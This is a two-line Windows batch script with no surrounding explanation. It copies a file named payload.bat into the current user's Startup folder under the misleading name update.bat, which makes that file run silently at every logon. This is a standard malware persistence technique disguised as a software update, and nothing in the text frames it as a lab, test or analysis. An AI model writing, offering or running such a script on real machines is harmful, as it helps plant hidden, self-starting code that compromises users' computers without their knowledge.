@echo off
copy /y payload.bat "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\update.bat"
